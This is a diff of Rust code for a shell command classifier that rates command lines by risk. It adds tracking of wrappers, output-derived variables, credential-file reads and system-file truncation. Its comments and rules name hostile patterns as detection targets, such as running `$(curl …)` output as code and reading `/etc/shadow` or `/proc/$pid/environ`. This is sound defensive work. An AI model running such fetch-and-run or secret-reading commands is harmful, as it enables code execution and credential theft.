@@ -67,6 +67,32 @@ pub struct SimpleFinding {
     pub rule: String,
     /// Why, in words.
     pub reason: String,
+    /// What the finding is about.
+    pub kind: FindingKind,
+    /// For a finding about running a program, the program by the name the
+    /// rules know it by (`zfs` for `sudo /usr/sbin/zfs`).
+    pub program: Option<String>,
+    /// It reads out a secret (a credential file, an environment).
+    pub reads_credentials: bool,
+    /// The wrappers it runs through (`sudo`, `timeout`), outermost first.
+    pub wrappers: Vec<String>,
+}
+
+/// What a finding is about.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum FindingKind {
+    /// Running a program the rules name (see [`SimpleFinding::program`]).
+    Program,
+    /// A redirection: a file read or written.
+    Redirection,
+    /// Running code computed when the line runs or kept from the
+    /// classifier: a program name from `$(…)`, `eval "$x"`, a script file,
+    /// a program arriving on a pipe.
+    Computed,
+    /// A part the classifier could not read completely (it does not parse,
+    /// is nested too deep, is too long), or an empty line.
+    Incomplete,
 }
 
 impl ShellReport {
@@ -74,23 +100,28 @@ impl ShellReport {
     pub fn deciding(&self) -> Option<&SimpleFinding> {
         self.commands.iter().find(|f| f.risk == self.risk)
     }
+
+    /// Whether some part of the line reads out a secret.
+    pub fn reads_credentials(&self) -> bool {
+        self.commands.iter().any(|f| f.reads_credentials)
+    }
+}
+
+/// What a finding is about, as the walk records it.
+#[derive(Debug, Clone, Copy)]
+enum What<'a> {
+    Program { name: &'a str, credential: bool },
+    Redirection { credential: bool },
+    Computed,
+    Incomplete,
 }
 
 /// Classifies `text` with `rules`.
 pub(crate) fn classify(rules: &ShellRules, text: &str) -> ShellReport {
-    let mut walker = Walker {
-        rules,
-        findings: Vec::new(),
-        functions: BTreeSet::new(),
-        calling: Vec::new(),
-        host_down: false,
-        steps: 0,
-        exhausted: false,
-        nesting: 0,
-        too_deep: false,
-    };
+    let mut walker = Walker::new(rules);
     if text.trim().is_empty() {
         walker.finding(
+            What::Incomplete,
             "(empty)".into(),
             &[],
             RiskClass::ReadOnly,
@@ -113,12 +144,49 @@ pub(crate) fn classify(rules: &ShellRules, text: &str) -> ShellReport {
     }
 }
 
-/// One word of a simple command: as written, and its value when the value
-/// is known before the command runs (quotes removed, escapes applied).
+/// One word of a simple command: as written, and what is known of its
+/// value before the command runs.
 #[derive(Debug, Clone)]
 struct Arg {
     raw: String,
+    /// Its value when it is known without running anything (quotes
+    /// removed, escapes applied).
     literal: Option<String>,
+    /// Its value with the parts computed at run time left as written
+    /// (`/proc/$pid/environ`): what it can be.
+    shape: String,
+    /// Part of it is a command's output (`$(…)`, or a variable this line
+    /// set from one).
+    from_output: bool,
+}
+
+impl Arg {
+    /// A word whose value is `text`.
+    fn literal(text: &str) -> Self {
+        Self {
+            raw: text.to_string(),
+            literal: Some(text.to_string()),
+            shape: text.to_string(),
+            from_output: false,
+        }
+    }
+
+    /// A word nothing is known about but how it is written.
+    fn unknown(raw: &str) -> Self {
+        Self {
+            raw: raw.to_string(),
+            literal: None,
+            shape: raw.to_string(),
+            from_output: false,
+        }
+    }
+}
+
+/// A word's value as its pieces build it.
+struct Evaluated {
+    literal: Option<String>,
+    shape: String,
+    from_output: bool,
 }
 
 /// Where a command's standard input comes from.
@@ -153,6 +221,11 @@ struct Walker<'r> {
     nesting: usize,
     /// A walk went deeper than [`MAX_NESTING`] (recorded once).
     too_deep: bool,
+    /// The wrappers around the command being walked, outermost first.
+    wrapper_stack: Vec<String>,
+    /// Variables this line sets from a command's output (`c=$(…)`): used
+    /// as a program name, they name computed code too.
+    output_vars: BTreeSet<String>,
 }
 
 fn with(via: &[String], more: impl Into<String>) -> Vec<String> {
@@ -161,22 +234,58 @@ fn with(via: &[String], more: impl Into<String>) -> Vec<String> {
     v
 }
 
-impl Walker<'_> {
+impl<'r> Walker<'r> {
+    fn new(rules: &'r ShellRules) -> Self {
+        Self {
+            rules,
+            findings: Vec::new(),
+            functions: BTreeSet::new(),
+            calling: Vec::new(),
+            host_down: false,
+            steps: 0,
+            exhausted: false,
+            nesting: 0,
+            too_deep: false,
+            wrapper_stack: Vec::new(),
+            output_vars: BTreeSet::new(),
+        }
+    }
+
     fn finding(
         &mut self,
+        what: What<'_>,
         command: String,
         via: &[String],
         risk: RiskClass,
         rule: &str,
         reason: &str,
     ) {
+        let (kind, program, reads_credentials) = match what {
+            What::Program { name, credential } => {
+                (FindingKind::Program, Some(name.to_string()), credential)
+            }
+            What::Redirection { credential } => (FindingKind::Redirection, None, credential),
+            What::Computed => (FindingKind::Computed, None, false),
+            What::Incomplete => (FindingKind::Incomplete, None, false),
+        };
         self.findings.push(SimpleFinding {
             command,
             via: via.to_vec(),
             risk,
             rule: rule.to_string(),
             reason: reason.to_string(),
+            kind,
+            program,
+            reads_credentials,
+            wrappers: self.wrapper_stack.clone(),
         });
+    }
+
+    /// Walks what a wrapper runs, with the wrapper recorded around it.
+    fn through(&mut self, wrapper: &str, walk: impl FnOnce(&mut Self)) {
+        self.wrapper_stack.push(wrapper.to_string());
+        walk(self);
+        self.wrapper_stack.pop();
     }
 
     /// Counts work; false once the budget is spent (recorded once).
@@ -186,6 +295,7 @@ impl Walker<'_> {
             if !self.exhausted {
                 self.exhausted = true;
                 self.finding(
+                    What::Incomplete,
                     "(command line)".into(),
                     &[],
                     RiskClass::Destructive,
@@ -209,6 +319,7 @@ impl Walker<'_> {
                 let reason =
                     format!("nested deeper than the {MAX_NESTING} levels the classifier reads");
                 self.finding(
+                    What::Incomplete,
                     "(command line)".into(),
                     via,
                     RiskClass::Destructive,
@@ -236,6 +347,7 @@ impl Walker<'_> {
                 self.rules.max_depth
             );
             self.finding(
+                What::Incomplete,
                 abbreviate(text),
                 via,
                 RiskClass::Destructive,
@@ -264,6 +376,7 @@ impl Walker<'_> {
         };
         if let Some(reason) = refusal {
             self.finding(
+                What::Incomplete,
                 abbreviate(text),
                 via,
                 RiskClass::Destructive,
@@ -274,6 +387,7 @@ impl Walker<'_> {
         }
         if text.len() > MAX_TEXT {
             self.finding(
+                What::Incomplete,
                 abbreviate(text),
                 via,
                 RiskClass::ConfigMutation,
@@ -297,6 +411,7 @@ impl Walker<'_> {
             Err(e) => {
                 let reason = format!("the shell cannot parse it: {e}");
                 self.finding(
+                    What::Incomplete,
                     abbreviate(text),
                     via,
                     RiskClass::ConfigMutation,
@@ -416,8 +531,12 @@ impl Walker<'_> {
             C::BraceGroup(g) => self.list(&g.list, stdin, via, depth),
             C::Subshell(s) => self.list(&s.list, stdin, via, depth),
             C::ForClause(f) => {
+                let mut from_output = false;
                 for w in f.values.iter().flatten() {
-                    self.word(&w.value, via, depth);
+                    from_output |= self.arg(&w.value, via, depth).from_output;
+                }
+                if from_output {
+                    self.output_vars.insert(f.variable_name.clone());
                 }
                 self.list(&f.body.list, stdin, via, depth);
             }
@@ -464,14 +583,20 @@ impl Walker<'_> {
         items.extend(suffix.map(Ok));
         for item in items {
             match item {
-                Err(word) | Ok(Item::Word(word)) => args.push(self.arg(word, via, depth)),
+                Err(word) | Ok(Item::Word(word)) => args.push(self.arg(&word.value, via, depth)),
                 Ok(Item::IoRedirect(r)) => redirects.push(r),
                 Ok(Item::AssignmentWord(assignment, word)) => {
                     if args.is_empty() {
                         self.assignment(assignment, via, depth);
                     } else {
-                        // `export A=$(…)`, `declare x=…`: an argument.
-                        args.push(self.arg(word, via, depth));
+                        // `export A=$(…)`, `declare x=…`: an argument, and
+                        // an assignment still.
+                        let arg = self.arg(&word.value, via, depth);
+                        if arg.from_output {
+                            self.output_vars
+                                .insert(assigned_name(assignment).to_string());
+                        }
+                        args.push(arg);
                     }
                 }
                 Ok(Item::ProcessSubstitution(_, sub)) => {
@@ -480,8 +605,8 @@ impl Walker<'_> {
                         walker.list(&sub.list, &Stdin::Inherited, &inner, depth)
                     });
                     args.push(Arg {
-                        raw: "<(…)".into(),
-                        literal: None,
+                        from_output: true,
+                        ..Arg::unknown("<(…)")
                     });
                 }
             }
@@ -493,103 +618,142 @@ impl Walker<'_> {
     }
 
     fn assignment(&mut self, assignment: &ast::Assignment, via: &[String], depth: usize) {
-        match &assignment.value {
-            ast::AssignmentValue::Scalar(w) => {
-                self.word(&w.value, via, depth);
-            }
+        let from_output = match &assignment.value {
+            ast::AssignmentValue::Scalar(w) => self.arg(&w.value, via, depth).from_output,
             ast::AssignmentValue::Array(items) => {
+                let mut any = false;
                 for (key, value) in items {
                     if let Some(k) = key {
                         self.word(&k.value, via, depth);
                     }
-                    self.word(&value.value, via, depth);
+                    any |= self.arg(&value.value, via, depth).from_output;
                 }
+                any
             }
+        };
+        if from_output {
+            self.output_vars
+                .insert(assigned_name(assignment).to_string());
         }
     }
 
-    fn arg(&mut self, word: &ast::Word, via: &[String], depth: usize) -> Arg {
-        Arg {
-            raw: word.value.clone(),
-            literal: self.word(&word.value, via, depth),
-        }
-    }
-
-    /// Classifies what a word runs (substitutions) and returns its value
-    /// when it is known without running anything.
-    fn word(&mut self, raw: &str, via: &[String], depth: usize) -> Option<String> {
+    /// Classifies what a word runs (substitutions) and says what is known
+    /// of its value without running anything.
+    fn arg(&mut self, raw: &str, via: &[String], depth: usize) -> Arg {
         if !self.step() {
-            return None;
+            return Arg::unknown(raw);
         }
         if !raw.contains(['$', '`', '\\', '\'', '"', '~', '<', '>']) {
-            return Some(raw.to_string());
+            return Arg::literal(raw);
         }
         let options = brush_parser::ParserOptions::default();
         match guarded(|| brush_parser::word::parse(raw, &options)) {
-            Ok(pieces) => self.pieces(&pieces, via, depth),
+            Ok(pieces) => {
+                let value = self.pieces(&pieces, raw, via, depth);
+                Arg {
+                    raw: raw.to_string(),
+                    literal: value.literal,
+                    shape: value.shape,
+                    from_output: value.from_output,
+                }
+            }
             Err(e) => {
                 let reason = format!("the shell cannot parse this word: {e}");
                 self.finding(
+                    What::Incomplete,
                     raw.to_string(),
                     via,
                     RiskClass::ConfigMutation,
                     "parse.word",
                     &reason,
                 );
-                None
+                Arg::unknown(raw)
             }
         }
     }
 
+    /// A word's value when it is known without running anything.
+    fn word(&mut self, raw: &str, via: &[String], depth: usize) -> Option<String> {
+        self.arg(raw, via, depth).literal
+    }
+
+    /// Walks a word's pieces (of `source`, which their indices point into).
     fn pieces(
         &mut self,
         pieces: &[WordPieceWithSource],
+        source: &str,
         via: &[String],
         depth: usize,
-    ) -> Option<String> {
-        let mut out = Some(String::new());
+    ) -> Evaluated {
+        let mut out = Evaluated {
+            literal: Some(String::new()),
+            shape: String::new(),
+            from_output: false,
+        };
         for piece in pieces {
-            let value = match &piece.piece {
-                WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => Some(s.clone()),
-                WordPiece::AnsiCQuotedText(s) => decode_ansi_c(s),
+            let written = source.get(piece.start_index..piece.end_index).unwrap_or("");
+            // The piece's value when known, and its shape when that is not
+            // the value.
+            let (value, shape): (Option<String>, Option<String>) = match &piece.piece {
+                WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => (Some(s.clone()), None),
+                WordPiece::AnsiCQuotedText(s) => (decode_ansi_c(s), None),
                 WordPiece::DoubleQuotedSequence(inner)
-                | WordPiece::GettextDoubleQuotedSequence(inner) => self
-                    .deeper(via, |walker| walker.pieces(inner, via, depth))
-                    .flatten(),
+                | WordPiece::GettextDoubleQuotedSequence(inner) => {
+                    match self.deeper(via, |walker| walker.pieces(inner, source, via, depth)) {
+                        Some(inner) => {
+                            out.from_output |= inner.from_output;
+                            (inner.literal, Some(inner.shape))
+                        }
+                        None => (None, None),
+                    }
+                }
                 WordPiece::EscapeSequence(s) => {
                     let rest = s.strip_prefix('\\').unwrap_or(s);
-                    Some(if rest == "\n" {
-                        String::new()
-                    } else {
-                        rest.to_string()
-                    })
+                    (
+                        Some(if rest == "\n" {
+                            String::new()
+                        } else {
+                            rest.to_string()
+                        }),
+                        None,
+                    )
                 }
                 WordPiece::TildeExpansion(t) => match t {
-                    brush_parser::word::TildeExpr::Home => Some("~".into()),
-                    brush_parser::word::TildeExpr::UserHome(u) => Some(format!("~{u}")),
-                    _ => None,
+                    brush_parser::word::TildeExpr::Home => (Some("~".into()), None),
+                    brush_parser::word::TildeExpr::UserHome(u) => (Some(format!("~{u}")), None),
+                    _ => (None, None),
                 },
                 WordPiece::ParameterExpansion(expr) => {
+                    out.from_output |=
+                        parameter_name(expr).is_some_and(|n| self.output_vars.contains(n));
                     let words = parameter_words(expr);
                     if !words.is_empty() {
-                        self.deeper(via, |walker| {
-                            for inner in words {
-                                walker.word(inner, via, depth);
-                            }
-                        });
+                        let from_output = self
+                            .deeper(via, |walker| {
+                                let mut any = false;
+                                for inner in words {
+                                    any |= walker.arg(inner, via, depth).from_output;
+                                }
+                                any
+                            })
+                            .unwrap_or(false);
+                        out.from_output |= from_output;
                     }
-                    None
+                    (None, None)
                 }
                 WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => {
                     self.script(s, &Stdin::Inherited, &with(via, "$(…)"), depth + 1);
-                    None
+                    out.from_output = true;
+                    (None, None)
                 }
                 WordPiece::ArithmeticExpression(e) => {
                     self.word(&e.value, via, depth);
-                    None
+                    (None, None)
                 }
             };
-            out = match (out, value) {
+            out.shape
+                .push_str(shape.as_deref().or(value.as_deref()).unwrap_or(written));
+            out.literal = match (out.literal, value) {
                 (Some(mut acc), Some(v)) => {
                     acc.push_str(&v);
                     Some(acc)
@@ -615,29 +779,36 @@ impl Walker<'_> {
             match redirect {
                 R::File(fd, kind, target) => match target {
                     T::Filename(w) => {
-                        let path = self.word(&w.value, via, depth);
+                        let path = self.arg(&w.value, via, depth);
                         match kind {
                             K::Read => {
-                                self.read_path(&w.value, path, via);
+                                self.read_path(&path, via);
                                 if fd.unwrap_or(0) == 0 {
                                     stdin = Stdin::File;
                                 }
                             }
-                            K::Write | K::Append | K::Clobber | K::ReadAndWrite => {
-                                self.write_path(&w.value, path, via);
-                            }
+                            // `>` and `>|` empty the file first; `>>` and
+                            // `<>` keep what is there.
+                            K::Write => self.write_path(&path, true, ">", via),
+                            K::Clobber => self.write_path(&path, true, ">|", via),
+                            K::Append => self.write_path(&path, false, ">>", via),
+                            K::ReadAndWrite => self.write_path(&path, false, "<>", via),
                             K::DuplicateInput | K::DuplicateOutput => {
-                                if !is_fd_word(path.as_deref()) {
-                                    self.write_path(&w.value, path, via);
+                                if !is_fd_word(path.literal.as_deref()) {
+                                    let truncates = matches!(kind, K::DuplicateOutput);
+                                    let operator = if truncates { ">&" } else { "<&" };
+                                    self.write_path(&path, truncates, operator, via);
                                 }
                             }
                         }
                     }
                     T::Fd(_) => {}
                     T::Duplicate(w) => {
-                        let path = self.word(&w.value, via, depth);
-                        if !is_fd_word(path.as_deref()) && matches!(kind, K::DuplicateOutput) {
-                            self.write_path(&w.value, path, via);
+                        let path = self.arg(&w.value, via, depth);
+                        if !is_fd_word(path.literal.as_deref())
+                            && matches!(kind, K::DuplicateOutput)
+                        {
+                            self.write_path(&path, true, ">&", via);
                         }
                     }
                     T::ProcessSubstitution(_, sub) => {
@@ -653,13 +824,14 @@ impl Walker<'_> {
                         let options = brush_parser::ParserOptions::default();
                         match guarded(|| brush_parser::word::parse_heredoc(body, &options)) {
                             Ok(pieces) => {
-                                self.pieces(&pieces, &with(via, "here-document"), depth);
+                                self.pieces(&pieces, body, &with(via, "here-document"), depth);
                             }
                             Err(e) => {
                                 // What it would run is unknown.
                                 let reason =
                                     format!("the shell cannot parse this here-document: {e}");
                                 self.finding(
+                                    What::Incomplete,
                                     abbreviate(body),
                                     via,
                                     RiskClass::ConfigMutation,
@@ -679,43 +851,54 @@ impl Walker<'_> {
                         stdin = Stdin::Text(text);
                     }
                 }
-                R::OutputAndError(w, _append) => {
-                    let path = self.word(&w.value, via, depth);
-                    self.write_path(&w.value, path, via);
+                R::OutputAndError(w, append) => {
+                    let path = self.arg(&w.value, via, depth);
+                    let operator = if *append { "&>>" } else { "&>" };
+                    self.write_path(&path, !append, operator, via);
                 }
             }
         }
         stdin
     }
 
-    fn write_path(&mut self, raw: &str, path: Option<String>, via: &[String]) {
-        let shown = format!("> {raw}");
-        let Some(path) = path else {
-            self.finding(
-                shown,
-                via,
-                RiskClass::ConfigMutation,
-                "write.unknown-path",
-                "writes to a file named only when it runs",
-            );
-            return;
+    /// A file written (`truncates`: emptied first, as by `>`), shown after
+    /// `operator`. A path computed at run time is judged by its shape for
+    /// what it can be: a block device, a system file.
+    fn write_path(&mut self, path: &Arg, truncates: bool, operator: &str, via: &[String]) {
+        let shown = format!("{operator} {}", path.raw);
+        let (text, known) = match &path.literal {
+            Some(p) => (p.as_str(), true),
+            None => (path.shape.as_str(), false),
         };
         let paths = &self.rules.paths;
-        let (risk, rule, reason) = if self.rules.path_set("discard").matches(&path, paths) {
+        let is = |set: &str| self.rules.path_set(set).matches(text, paths);
+        let (risk, rule, reason) = if known && is("discard") {
             return;
-        } else if self.rules.path_set("block-devices").matches(&path, paths) {
+        } else if is("block-devices") {
             (
                 RiskClass::Destructive,
                 "write.block-device",
                 "writes to a block device: overwrites a disk or partition",
             )
-        } else if self.rules.path_set("scratch").matches(&path, paths) {
+        } else if known && is("scratch") {
             (
                 RiskClass::ReversibleLow,
                 "write.scratch",
                 "writes a file in scratch space",
             )
-        } else if self.rules.path_set("protected").matches(&path, paths) {
+        } else if truncates && is("system-files") {
+            (
+                RiskClass::Destructive,
+                "write.truncate-system-file",
+                "empties or replaces a file of the system by redirection: what was in it is gone",
+            )
+        } else if !known {
+            (
+                RiskClass::ConfigMutation,
+                "write.unknown-path",
+                "writes to a file named only when it runs",
+            )
+        } else if is("protected") {
             (
                 RiskClass::ConfigMutation,
                 "write.protected-path",
@@ -724,34 +907,43 @@ impl Walker<'_> {
         } else {
             (RiskClass::ConfigMutation, "write.file", "writes a file")
         };
-        self.finding(shown, via, risk, rule, reason);
+        self.finding(
+            What::Redirection { credential: false },
+            shown,
+            via,
+            risk,
+            rule,
+            reason,
+        );
     }
 
-    fn read_path(&mut self, raw: &str, path: Option<String>, via: &[String]) {
-        let shown = format!("< {raw}");
-        match path {
-            None => self.finding(
+    /// A file read by redirection (`< /etc/shadow`): a credential file is
+    /// read out, whether named as written or by what its name can be.
+    fn read_path(&mut self, path: &Arg, via: &[String]) {
+        let shown = format!("< {}", path.raw);
+        let text = path.literal.as_deref().unwrap_or(&path.shape);
+        if self
+            .rules
+            .path_set("credentials")
+            .matches(text, &self.rules.paths)
+        {
+            self.finding(
+                What::Redirection { credential: true },
+                shown,
+                via,
+                RiskClass::Destructive,
+                "read.credentials",
+                "reads a credential file",
+            );
+        } else if path.literal.is_none() {
+            self.finding(
+                What::Redirection { credential: false },
                 shown,
                 via,
                 RiskClass::ConfigMutation,
                 "read.unknown-path",
                 "reads a file named only when it runs",
-            ),
-            Some(p)
-                if self
-                    .rules
-                    .path_set("credentials")
-                    .matches(&p, &self.rules.paths) =>
-            {
-                self.finding(
-                    shown,
-                    via,
-                    RiskClass::Destructive,
-                    "read.credentials",
-                    "reads a credential file",
-                )
-            }
-            Some(_) => {}
+            );
         }
     }
 
@@ -762,17 +954,30 @@ impl Walker<'_> {
         }
         let shown = show(args);
         let Some(written) = args[0].literal.clone() else {
-            self.finding(
-                shown,
-                via,
-                RiskClass::ConfigMutation,
-                "unknown.dynamic-command",
-                "the program to run is computed when it runs",
-            );
+            if args[0].from_output {
+                self.finding(
+                    What::Computed,
+                    shown,
+                    via,
+                    RiskClass::Destructive,
+                    "computed.command-name",
+                    "the program to run is a command's output (`$(…)`, or a variable set from one): code computed when it runs, as dangerous as a program arriving on a pipe",
+                );
+            } else {
+                self.finding(
+                    What::Computed,
+                    shown,
+                    via,
+                    RiskClass::ConfigMutation,
+                    "unknown.dynamic-command",
+                    "the program to run is computed when it runs",
+                );
+            }
             return;
         };
         let Some(name) = self.program_name(&written) else {
             self.finding(
+                What::Computed,
                 shown,
                 via,
                 RiskClass::ConfigMutation,
@@ -781,8 +986,13 @@ impl Walker<'_> {
             );
             return;
         };
+        let program = What::Program {
+            name: &name,
+            credential: false,
+        };
         if self.calling.contains(&name) {
             self.finding(
+                program,
                 shown,
                 via,
                 RiskClass::Destructive,
@@ -791,6 +1001,7 @@ impl Walker<'_> {
             );
         } else if self.functions.contains(&name) {
             self.finding(
+                program,
                 shown,
                 via,
                 RiskClass::ReadOnly,
@@ -800,7 +1011,7 @@ impl Walker<'_> {
         } else if self.rules.shells.contains(&name) {
             self.shell(&name, args, stdin, via, depth);
         } else if self.rules.interpreters.contains(&name) {
-            self.interpreter(args, stdin, via);
+            self.interpreter(&name, args, stdin, via);
         } else if let Some(wrapper) = self.rules.wrappers.get(&name) {
             self.wrapper(&name, wrapper, args, stdin, via, depth);
         } else {
@@ -850,27 +1061,16 @@ impl Walker<'_> {
         let operand = args.get(i);
         if command_mode {
             match operand {
-                Some(Arg {
-                    literal: Some(program),
-                    ..
-                }) => {
-                    self.script(program, stdin, &with(via, format!("{name} -c")), depth + 1);
-                }
-                Some(arg) if runs_command_output(&arg.raw) => self.finding(
-                    shown,
+                Some(program) => self.program_text(
+                    program,
+                    stdin,
+                    &with(via, format!("{name} -c")),
+                    depth + 1,
+                    &shown,
                     via,
-                    RiskClass::Destructive,
-                    "shell.command-output-program",
-                    "runs the output of another command as a program (e.g. downloaded code)",
-                ),
-                Some(_) => self.finding(
-                    shown,
-                    via,
-                    RiskClass::ConfigMutation,
-                    "shell.dynamic-program",
-                    "runs a shell program computed when it runs",
                 ),
                 None => self.finding(
+                    What::Incomplete,
                     shown,
                     via,
                     RiskClass::ConfigMutation,
@@ -881,8 +1081,9 @@ impl Walker<'_> {
             return;
         }
         if let Some(arg) = operand.filter(|_| !stdin_mode) {
-            if runs_command_output(&arg.raw) {
+            if arg.from_output {
                 self.finding(
+                    What::Computed,
                     shown,
                     via,
                     RiskClass::Destructive,
@@ -891,6 +1092,7 @@ impl Walker<'_> {
                 );
             } else {
                 self.finding(
+                    What::Computed,
                     shown,
                     via,
                     RiskClass::ConfigMutation,
@@ -901,6 +1103,46 @@ impl Walker<'_> {
             return;
         }
         self.stdin_program(&shown, &format!("{name} <<…"), stdin, via, depth);
+    }
+
+    /// A word a shell runs as a program (`sh -c WORD`, `su -c WORD`, `ssh -o
+    /// ProxyCommand=WORD`): walked when its text is known; otherwise it is
+    /// code computed when the line runs, as dangerous as a program arriving
+    /// on a pipe.
+    fn program_text(
+        &mut self,
+        program: &Arg,
+        stdin: &Stdin,
+        inner_via: &[String],
+        depth: usize,
+        shown: &str,
+        via: &[String],
+    ) {
+        match &program.literal {
+            Some(text) => self.script(text, stdin, inner_via, depth),
+            None if program.from_output => self.finding(
+                What::Computed,
+                shown.to_string(),
+                via,
+                RiskClass::Destructive,
+                "shell.command-output-program",
+                "runs the output of another command as a program (e.g. downloaded code)",
+            ),
+            None => self.computed_program(shown, via),
+        }
+    }
+
+    /// Shell code whose text is a variable's value (`eval "$x"`, `sh -c
+    /// "$CMD"`).
+    fn computed_program(&mut self, shown: &str, via: &[String]) {
+        self.finding(
+            What::Computed,
+            shown.to_string(),
+            via,
+            RiskClass::Destructive,
+            "shell.dynamic-program",
+            "runs shell code computed when it runs (a variable's value): as dangerous as a program arriving on a pipe",
+        );
     }
 
     /// A program read from standard input (`sh` with no script, `at`).
@@ -917,6 +1159,7 @@ impl Walker<'_> {
                 self.script(program, &Stdin::Inherited, &with(via, label), depth + 1);
             }
             Stdin::Pipe => self.finding(
+                What::Computed,
                 shown.to_string(),
                 via,
                 RiskClass::Destructive,
@@ -924,6 +1167,7 @@ impl Walker<'_> {
                 "runs whatever program arrives on its input (e.g. downloaded code)",
             ),
             Stdin::Text(None) | Stdin::File | Stdin::Inherited => self.finding(
+                What::Computed,
                 shown.to_string(),
                 via,
                 RiskClass::ConfigMutation,
@@ -933,7 +1177,7 @@ impl Walker<'_> {
         }
     }
 
-    fn interpreter(&mut self, args: &[Arg], stdin: &Stdin, via: &[String]) {
+    fn interpreter(&mut self, name: &str, args: &[Arg], stdin: &Stdin, via: &[String]) {
         let shown = show(args);
         let rules = self.rules;
         let words: Vec<Option<&str>> = args[1..].iter().map(|a| a.literal.as_deref()).collect();
@@ -943,8 +1187,25 @@ impl Walker<'_> {
                 .iter()
                 .any(|o| w == o || (w.starts_with(o.as_str()) && !w.starts_with("--")))
         };
-        let (risk, rule, reason) = if words.iter().any(|w| w.is_none_or(is_code)) {
+        // `python3 -c "$(curl …)"`, `perl -e "$CODE"`: the code itself is
+        // computed when it runs.
+        let computed_code = args[1..].windows(2).any(|pair| {
+            pair[0]
+                .literal
+                .as_deref()
+                .is_some_and(|o| rules.interpreter_code_options.iter().any(|c| c == o))
+                && pair[1].literal.is_none()
+        });
+        let (what, risk, rule, reason) = if computed_code {
             (
+                What::Computed,
+                RiskClass::Destructive,
+                "interpreter.computed-code",
+                "runs code computed when it runs (a variable or a command's output): as dangerous as a program arriving on a pipe",
+            )
+        } else if words.iter().any(|w| w.is_none_or(is_code)) {
+            (
+                What::Computed,
                 RiskClass::ConfigMutation,
                 "interpreter.inline-code",
                 "runs code the classifier cannot read",
@@ -955,30 +1216,37 @@ impl Walker<'_> {
                 .all(|w| w.is_some_and(|w| rules.interpreter_info_options.iter().any(|o| o == w)))
         {
             (
+                What::Program {
+                    name,
+                    credential: false,
+                },
                 RiskClass::ReadOnly,
                 "interpreter.info",
                 "prints the interpreter's version or help",
             )
         } else if words.iter().any(|w| w.is_some_and(|w| !w.starts_with('-'))) {
             (
+                What::Computed,
                 RiskClass::ConfigMutation,
                 "interpreter.script-file",
                 "runs a script file the classifier cannot see",
             )
         } else if matches!(stdin, Stdin::Pipe) {
             (
+                What::Computed,
                 RiskClass::Destructive,
                 "interpreter.stdin-program",
                 "runs whatever program arrives on its input (e.g. downloaded code)",
             )
         } else {
             (
+                What::Computed,
                 RiskClass::ConfigMutation,
                 "interpreter.unseen-program",
                 "runs a program the classifier cannot see",
             )
         };
-        self.finding(shown, via, risk, rule, reason);
+        self.finding(what, shown, via, risk, rule, reason);
     }
 
     fn wrapper(
@@ -1010,6 +1278,7 @@ impl Walker<'_> {
                     let label = format!("{name} {}", args[i].raw);
                     if inner.is_empty() {
                         self.finding(
+                            What::Incomplete,
                             shown.clone(),
                             via,
                             RiskClass::ConfigMutation,
@@ -1017,7 +1286,9 @@ impl Walker<'_> {
                             "an exec option without a command",
                         );
                     } else {
-                        self.run(inner, &Stdin::Inherited, &with(via, label), depth);
+                        self.through(name, |walker| {
+                            walker.run(inner, &Stdin::Inherited, &with(via, label), depth)
+                        });
                     }
                     i = end + 1;
                 } else {
@@ -1033,23 +1304,10 @@ impl Walker<'_> {
         // A script option anywhere (`su - user -c '…'`, `script -qc '…'`):
         // its value is the program.
         if let Some(program) = script_option_value(w, args) {
-            match program.literal.clone() {
-                Some(p) => self.script(&p, stdin, &with(via, name), depth + 1),
-                None if runs_command_output(&program.raw) => self.finding(
-                    shown,
-                    via,
-                    RiskClass::Destructive,
-                    "shell.command-output-program",
-                    "runs the output of another command as a program (e.g. downloaded code)",
-                ),
-                None => self.finding(
-                    shown,
-                    via,
-                    RiskClass::ConfigMutation,
-                    "shell.dynamic-program",
-                    "runs a shell program computed when it runs",
-                ),
-            }
+            self.floor(name, w, &shown, via);
+            self.through(name, |walker| {
+                walker.program_text(&program, stdin, &inner_via, depth + 1, &shown, via)
+            });
             return;
         }
         // Options, the wrapper's own operands, then options again (`ssh
@@ -1089,6 +1347,10 @@ impl Walker<'_> {
                 let listed = |list: &[String]| list.iter().any(|o| o == option);
                 if listed(&w.lookup_options) {
                     self.finding(
+                        What::Program {
+                            name,
+                            credential: false,
+                        },
                         shown,
                         via,
                         RiskClass::ReadOnly,
@@ -1098,8 +1360,27 @@ impl Walker<'_> {
                     return;
                 }
                 if listed(&w.shell_options) || in_cluster(a, &w.shell_options) {
-                    self.joined(name, &args[i + 1..], w, &shown, stdin, via, depth, true);
+                    self.floor(name, w, &shown, via);
+                    self.through(name, |walker| {
+                        walker.joined(name, &args[i + 1..], &shown, stdin, via, depth, true)
+                    });
                     return;
+                }
+                // `-o NAME=VALUE`, `-oNAME=VALUE`: a setting, which can
+                // name a program to run.
+                if let Some(option) = w
+                    .setting_options
+                    .iter()
+                    .find(|o| a == o.as_str() || (o.len() == 2 && a.starts_with(o.as_str())))
+                {
+                    let setting = if a == option.as_str() {
+                        args.get(i + 1).cloned()
+                    } else {
+                        Some(Arg::literal(&a[option.len()..]))
+                    };
+                    if let Some(setting) = setting {
+                        self.setting(name, w, &setting, &shown, via, depth);
+                    }
                 }
                 i += if listed(&w.options_with_value) && attached.is_none() {
                     2
@@ -1108,25 +1389,31 @@ impl Walker<'_> {
                 };
             }
         }
+        self.floor(name, w, &shown, via);
         if w.stdin_program {
-            self.stdin_program(&shown, &format!("{name} <<…"), stdin, via, depth);
+            self.through(name, |walker| {
+                walker.stdin_program(&shown, &format!("{name} <<…"), stdin, via, depth)
+            });
             return;
         }
         let inner = &args[i.min(args.len())..];
         if w.join {
-            self.joined(name, inner, w, &shown, stdin, via, depth, false);
+            self.through(name, |walker| {
+                walker.joined(name, inner, &shown, stdin, via, depth, false)
+            });
             return;
         }
         if inner.is_empty() {
             match &w.default_command {
-                Some(default) => {
-                    let arg = Arg {
-                        raw: default.clone(),
-                        literal: Some(default.clone()),
-                    };
-                    self.run(&[arg], &Stdin::Inherited, &inner_via, depth);
-                }
-                None => self.without_command(w, shown, via),
+                Some(default) => self.through(name, |walker| {
+                    walker.run(
+                        &[Arg::literal(default)],
+                        &Stdin::Inherited,
+                        &inner_via,
+                        depth,
+                    )
+                }),
+                None => self.alone(name, args, via),
             }
             return;
         }
@@ -1136,7 +1423,65 @@ impl Walker<'_> {
         } else {
             stdin.clone()
         };
